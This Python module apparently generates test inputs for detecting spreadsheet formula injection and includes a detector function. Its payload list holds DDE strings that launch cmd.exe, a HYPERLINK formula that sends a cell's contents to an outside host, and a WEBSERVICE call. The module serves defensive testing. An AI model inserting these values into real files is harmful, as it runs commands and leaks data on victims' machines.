"""What somebody may type into a field so that a spreadsheet executes it."""

from __future__ import annotations

import re

SIGNS = ("=", "+", "-", "@", "＝", "＋", "－", "＠", "−", "﹦", "⁼")
BEFORE = (
    "",
    " ",
    "  ",
    "\u00a0",
    "\u200b",
    "\ufeff",
    "\u2060",
    "\u00ad",
    '"',
    "'",
    "\t",
    "\r",
    "\n",
)
PAYLOADS = (
    "1+1",
    "SUM(1,1)",
    'HYPERLINK("http://example.se/?x="&A1,"se")',
    "cmd|' /C calc'!A0",
    "MSEXCEL|'\\..\\..\\cmd.exe'!''",
    'DDE("cmd";"/C calc";"x")',
    'WEBSERVICE("http://example.se")',
)
INNER = ("", "x;", "x,", "x\t", "x\n", 'x";"', 'x",', 'x"\n"', "x|", "x; ", "x,\u200b")
ATTACKS = [
    f"{inner}{before}{sign}{payload}"
    for inner in INNER
    for before in BEFORE
    for sign in SIGNS
    for payload in PAYLOADS
] + ["\tx", "\rx", "\nx", "-", "+46 70 174 06 05"]
STARTS = re.compile(r"[=+\-@＝＋－＠−﹦⁼]")
SKIPPED = re.compile(r"[\s\x00-\x20\"\u00a0\u00ad\u200b\u2060\ufeff]*")


def executed(cell: str) -> bool:
    """Whether some spreadsheet would take the cell for a formula, however much it skips."""
    return STARTS.match(cell[SKIPPED.match(cell).end() :]) is not None  # type: ignore[union-attr]
